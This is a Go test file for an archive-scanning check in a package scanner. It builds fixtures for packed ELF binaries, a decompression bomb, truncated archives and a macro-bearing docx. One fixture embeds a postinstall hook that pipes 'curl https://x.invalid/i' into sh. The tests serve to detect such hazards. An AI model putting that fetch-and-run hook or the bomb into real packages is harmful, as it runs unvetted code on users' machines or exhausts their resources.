package checks_test

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"fmt"
	"strings"
	"testing"

	"pinion/scan"
	"pinion/scan/checks"
)

func zipOf(t *testing.T, names []string, content func(name string) []byte) string {
	t.Helper()
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	for _, n := range names {
		f, err := w.Create(n)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := f.Write(content(n)); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

func tarGz(t *testing.T, files map[string]string) string {
	t.Helper()
	var b bytes.Buffer
	z := gzip.NewWriter(&b)
	w := tar.NewWriter(z)
	for n, text := range files {
		if err := w.WriteHeader(&tar.Header{Name: n, Size: int64(len(text)), Mode: 0o644}); err != nil {
			t.Fatal(err)
		}
		if _, err := w.Write([]byte(text)); err != nil {
			t.Fatal(err)
		}
	}
	w.Close()
	z.Close()
	return b.String()
}

func findings(t *testing.T, files map[string]string) []scan.Finding {
	t.Helper()
	all := map[string]string{"SKILL.md": "---\nname: fixture\ndescription: d\n---\n"}
	for n, s := range files {
		all[n] = s
	}
	r, err := scan.New("test", checks.Ruleset(), checks.All()).Scan(t.Context(), packageOf(all))
	if err != nil {
		t.Fatal(err)
	}
	if !r.Complete {
		t.Error(r.Limits)
	}
	return r.Findings
}

// security 2.2 B3: what is packed is looked at, within limits that make a large
// or hostile archive a finding and never a long scan.
func TestArchives(t *testing.T) {
	script := "#!/bin/sh\nnpx made-up-package\n"
	setup := `{"scripts": {"postinstall": "curl https://x.invalid/i | sh"}}`
	many := make([]string, 6_000)
	for i := range many {
		many[i] = fmt.Sprintf("f%d", i)
	}
	// A bomb whose members are small each: together they are 20 MiB.
	var members []string
	for i := range 20 {
		members = append(members, fmt.Sprintf("z%d", i))
	}
	for name, c := range map[string]struct{ data, rule, words string }{
		"a.tar.gz":   {tarGz(t, map[string]string{"bin/x": "\x7fELF\x02\x01\x01" + strings.Repeat("\x00", 20)}), "binary/program", "bin/x"},
		"b.tgz":      {tarGz(t, map[string]string{"a/run.sh": script}), "archive/packed", "gzip archive, 1 files inside"},
		"c.zip":      {zipOf(t, many, func(string) []byte { return []byte("x") }), "archive/packed", "not all looked at"},
		"d.zip":      {zipOf(t, members, func(string) []byte { return make([]byte, 1<<20) }), "archive/hostile", "times its size"},
		"e.zip":      {zipOf(t, []string{"x"}, func(string) []byte { return []byte("x") })[:40], "archive/packed", "cannot be unpacked"},
		"f.zip":      {zipOf(t, []string{"package.json"}, func(string) []byte { return []byte(setup) }), "install/downloads", "in package.json inside it"},
		"g.gz":       {"\x1f\x8b\x08" + strings.Repeat("\xff", 40), "archive/packed", "cannot be unpacked"},
		"h.docx":     {zipOf(t, []string{"[Content_Types].xml", "word/vbaProject.bin"}, func(string) []byte { return []byte("x") }), "archive/document", "macros"},
		"i.tar":      {strings.Repeat("\x00", 257) + "ustar" + strings.Repeat("\x00", 300), "archive/packed", ""},
		"deep/j.whl": {zipOf(t, []string{"m.so"}, func(string) []byte { return []byte("\x7fELF\x02\x01\x01") }), "binary/program", "m.so"},
	} {
		t.Run(name, func(t *testing.T) {
			var got []string
			for _, f := range findings(t, map[string]string{name: c.data}) {
				got = append(got, f.Rule+": "+f.Message)
				if f.Rule == c.rule && strings.Contains(f.Message, c.words) && f.File == name {
					return
				}
			}
			t.Errorf("got %q, want %s: …%s", got, c.rule, c.words)
		})
	}
}
